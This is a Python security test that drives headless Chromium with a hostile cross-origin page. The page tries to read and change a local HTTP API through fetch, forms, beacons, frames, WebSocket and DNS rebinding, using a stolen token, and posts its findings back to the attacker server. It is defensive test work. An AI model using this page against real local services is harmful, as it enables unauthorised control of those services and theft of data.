#!/usr/bin/env python3
"""A page of another origin, in a real browser, against the HTTP API: it must not read or change anything.

  browser_story.py PATH/apifixtureserver [--browser PROGRAM]

The page tries what browsers allow pages: fetch (also no-cors), forms, images, scripts, frames, EventSource, WebSocket,
beacons, each without and, where a page can send one, with a stolen token; and once more from a name whose address was
made to point here (DNS rebinding: the browser then takes the API for the page's own server). The same page against a
server without any guard has to succeed, which shows that its attempts are real. Exits 77 without Chromium.
"""
import argparse
import http.client
import http.server
import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time

BROWSERS = ("chromium", "chromium-browser", "google-chrome", "google-chrome-stable")
SKIPPED = 77
PATIENCE = 60  # seconds, for a page; a loaded machine is slow

PAGE = """<!doctype html><meta charset=utf-8><title>elsewhere</title><body><script>
const api = "TARGET", token = "TOKEN", found = {};
const bearer = {"Authorization": "Bearer " + token};
const json = {"Content-Type": "application/json"};
const body = '{"reason":"page"}';
const later = (milliseconds) => new Promise(done => setTimeout(() => done("no answer"), milliseconds));
const within = (promise) => Promise.race([promise, later(4000)]);
async function said(path, options) {
  const answer = await fetch(api + path, options);
  if (answer.type === "opaque") return "opaque";
  return answer.status + " " + (await answer.text()).slice(0, 4000);
}
const element = (name, attributes) => new Promise(done => {
  const made = Object.assign(document.createElement(name), attributes);
  made.onload = () => done("loaded " + (made.naturalWidth || ""));
  made.onerror = () => done("failed");
  document.body.append(made);
});
const frame = (path) => new Promise(done => {
  const made = document.createElement("iframe");
  made.onload = () => { try { done("read " + made.contentDocument.documentElement.textContent); }
                        catch (problem) { done("unreadable"); } };
  made.src = api + path;
  document.body.append(made);
});
const form = (path, type) => new Promise(done => {
  const target = document.createElement("iframe"), made = document.createElement("form");
  target.name = "f" + Math.random();
  Object.assign(made, {action: api + path, method: "POST", enctype: type, target: target.name});
  const field = Object.assign(document.createElement("input"), {name: '{"reason":"form","x":"', value: '"}'});
  made.append(field);
  document.body.append(target, made);
  target.onload = () => { try { done("read " + target.contentDocument.documentElement.textContent); }
                          catch (problem) { done("unreadable"); } };
  made.submit();
});
const socketTo = (path) => new Promise(done => {
  const made = new WebSocket(api.replace("http", "ws") + path);
  made.onopen = () => done("open");
  made.onerror = () => done("failed");
});
const stream = (path) => new Promise(done => {
  const made = new EventSource(api + path);
  made.onopen = () => { made.close(); done("open"); };
  made.onerror = () => { made.close(); done("failed"); };
});
const attempts = {
  "fetch": () => said("/status"),
  "fetch health": () => said("/health"),
  "fetch with token": () => said("/status", {headers: bearer}),
  "fetch with credentials": () => said("/status", {credentials: "include"}),
  "no-cors fetch": () => said("/status", {mode: "no-cors"}),
  "post": () => said("/pause", {method: "POST", headers: {...bearer, ...json}, body}),
  "patch": () => said("/config", {method: "PATCH", headers: {...bearer, ...json}, body: '{"settle_seconds":77}'}),
  "no-cors post": () => said("/pause", {method: "POST", mode: "no-cors", body}),
  "no-cors post of a form": () => said("/cycle", {method: "POST", mode: "no-cors", body: new URLSearchParams({a: 1})}),
  "no-cors webhook": () => said("/webhook/forgejo", {method: "POST", mode: "no-cors", body: "{}"}),
  "beacon": async () => "" + navigator.sendBeacon(api + "/shutdown", new Blob([body], {type: "text/plain"})),
  "form": () => form("/pause", "text/plain"),
  "form urlencoded": () => form("/cycle", "application/x-www-form-urlencoded"),
  "image": () => element("img", {src: api + "/status"}),
  "script": () => element("script", {src: api + "/status"}),
  "style": () => element("link", {rel: "stylesheet", href: api + "/docs"}),
  "frame": () => frame("/health"),
  "event stream": () => stream("/events"),
  "web socket": () => socketTo("/events"),
};
(async () => {
  for (const [name, attempt] of Object.entries(attempts)) {
    try { found[name] = await within(attempt()); } catch (problem) { found[name] = "failed: " + problem; }
  }
  await fetch("/report", {method: "POST", body: JSON.stringify(found)});
})();
</script>"""


class Quiet(http.server.BaseHTTPRequestHandler):
    def log_message(self, *_):
        pass

    def reply(self, status, kind, body, more=()):
        self.send_response(status)
        for name, value in (("Content-Type", kind), ("Content-Length", str(len(body))), *more):
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(body)


def serve(handler, address="127.0.0.1", port=0):
    server = http.server.ThreadingHTTPServer((address, port), handler)
    server.daemon_threads = True
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server


class Elsewhere:
    """The attacker's server: the page, and where it reports to. Other paths go on to `behind`, byte for byte, as they do
    once the page's name points to the API."""

    def __init__(self, target, token, address="127.0.0.1", port=0, behind=None):
        self.report = None
        self.reported = threading.Event()
        outer = self

        class Handler(Quiet):
            def do_GET(self):
                if self.path == "/page":
                    page = PAGE.replace("TARGET", target).replace("TOKEN", token)
                    self.reply(200, "text/html", page.encode())
                else:
                    self.pass_on()

            def do_POST(self):
                if self.path == "/report":
                    outer.report = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
                    self.reply(200, "text/plain", b"")
                    outer.reported.set()
                else:
                    self.pass_on()

            do_PATCH = do_POST

            def pass_on(self):
                self.close_connection = True
                if behind is None:
                    return self.reply(404, "text/plain", b"")
                body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
                head = self.raw_requestline + str(self.headers).encode().replace(b"\n", b"\r\n")
                with socket.create_connection(("127.0.0.1", behind), 10) as onward:
                    onward.sendall(head + body)
                    onward.settimeout(3)
                    try:
                        while data := onward.recv(65536):
                            self.wfile.write(data)
                            if len(data) < 65536:
                                onward.settimeout(0.5)
                    except OSError:
                        pass  # kept open for more

        self.server = serve(Handler, address, port)
        self.port = self.server.server_address[1]


class Guardless:
    """Answers everybody everything, as an API without any of our rules would."""

    def __init__(self):
        self.taken = []
        outer = self

        class Handler(Quiet):
            def answer(self):
                length = int(self.headers.get("Content-Length") or 0)
                outer.taken.append((self.command, self.path, self.rfile.read(length)))
                cors = (("Access-Control-Allow-Origin", self.headers.get("Origin", "*")),
                        ("Access-Control-Allow-Headers", "authorization, content-type"),
                        ("Access-Control-Allow-Credentials", "true"), ("Access-Control-Allow-Methods", "PATCH, POST"))
                kind = "text/event-stream" if self.path == "/events" else "application/json"
                self.reply(200, kind, b'{"secret":"canary"}' if kind != "text/event-stream" else b"data: x\n\n", cors)

            do_GET = do_POST = do_PATCH = do_OPTIONS = answer

        self.port = serve(Handler).server_address[1]


def browse(browser, url, elsewhere):
    with tempfile.TemporaryDirectory(ignore_cleanup_errors=True) as profile:
        process = subprocess.Popen(
            [browser, "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
             "--disable-background-networking", "--disable-component-update", "--disable-sync", "--disable-dev-shm-usage",
             "--host-resolver-rules=MAP rebind.test 127.0.0.2, MAP elsewhere.test 127.0.0.1",
             "--no-proxy-server", "--user-data-dir=" + profile, "--remote-debugging-port=0", url],
            stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
        try:
            elsewhere.reported.wait(PATIENCE)
        finally:
            os.killpg(process.pid, signal.SIGKILL)
            process.wait()
    return elsewhere.report


def state_of(facts):
    """What a page could have changed, as the owner sees it."""
    def get(path):
        connection = http.client.HTTPConnection("127.0.0.1", facts["port"], timeout=10)
        connection.request("GET", path, headers={"Authorization": "Bearer " + facts["token"]})
        return json.loads(connection.getresponse().read())
    status = get("/status")
    return {"pause": status["pause"], "cycle": status["cycle"]["number"], "state": status["state"],
            "config": get("/config"), "commits": get("/commits")["items"][0]["id"], "repos": get("/repos")}


# What a page may learn: that the browser let nothing through. "unreadable" is a frame the browser keeps shut.
HARMLESS = ("failed", "opaque", "unreadable", "no answer", "true")
REFUSED = ("403 ", "421 ")  # only where the browser believes that the API is the page's own server


def problems_of(report, rebound):
    if report is None:
        yield "the page never reported"
        return
    for name, result in report.items():
        refused = result.startswith(REFUSED) or (result.startswith("read ") and "error" in result)
        if not (result.startswith(HARMLESS) or (rebound and refused)) or '"counts"' in result or '"ok"' in result:
            yield "%s: %s" % (name, result[:200])


def check_control(browser):
    """The page does what it says it does: without guards it reads and changes."""
    weak = Guardless()
    elsewhere = Elsewhere("http://127.0.0.1:%d" % weak.port, "t")
    report = browse(browser, "http://elsewhere.test:%d/page" % elsewhere.port, elsewhere) or {}
    asked = {(method, path) for method, path, _ in weak.taken}
    for name in ("fetch", "fetch with token", "post", "patch"):
        if "canary" not in report.get(name, ""):
            yield "control: %s did not read: %s" % (name, report.get(name))
    for one in (("POST", "/pause"), ("POST", "/cycle"), ("PATCH", "/config"), ("POST", "/shutdown"), ("GET", "/events"),
                ("POST", "/webhook/forgejo"), ("GET", "/docs")):
        if one not in asked:
            yield "control: %s %s never arrived" % one
    if report.get("event stream") != "open":
        yield "control: no event stream: %s" % report.get("event stream")


def attack(browser, facts):
    api = "http://127.0.0.1:%d" % facts["port"]
    elsewhere = Elsewhere(api, facts["token"])
    yield "another name", browse(browser, "http://elsewhere.test:%d/page" % elsewhere.port, elsewhere), False
    elsewhere = Elsewhere(api, facts["token"])
    yield "another port", browse(browser, "http://127.0.0.1:%d/page" % elsewhere.port, elsewhere), False
    if sys.platform == "darwin":
        return  # has one loopback address, so the attacker cannot listen on the API's port
    own = "http://rebind.test:%d" % facts["port"]
    elsewhere = Elsewhere(own, facts["token"], "127.0.0.2", facts["port"], behind=facts["port"])
    yield "a name made to point here", browse(browser, own + "/page", elsewhere), True


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("server")
    parser.add_argument("--browser", default=next(filter(None, map(shutil.which, BROWSERS)), None))
    options = parser.parse_args()
    if not options.browser:
        print("skipped: there is no Chromium here (Debian: apt-get install chromium)")
        return SKIPPED
    began = time.monotonic()
    problems = list(check_control(options.browser))
    server = subprocess.Popen([options.server, "--unlimited"], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
    try:
        facts = json.loads(server.stdout.readline())
        before = state_of(facts)
        attempts = 0
        for name, report, rebound in attack(options.browser, facts):
            attempts += len(report or {})
            problems += ["%s: %s" % (name, one) for one in problems_of(report, rebound)]
        if server.poll() is not None or state_of(facts) != before:
            problems.append("the daemon is not as it was before")
    finally:
        server.stdin.close()
        server.wait(10)
    for problem in problems:
        print(problem)
    print("%d attempts of pages, %d problems, %.1f s" % (attempts, len(problems), time.monotonic() - began))
    return 1 if problems else 0


if __name__ == "__main__":
    sys.exit(main())
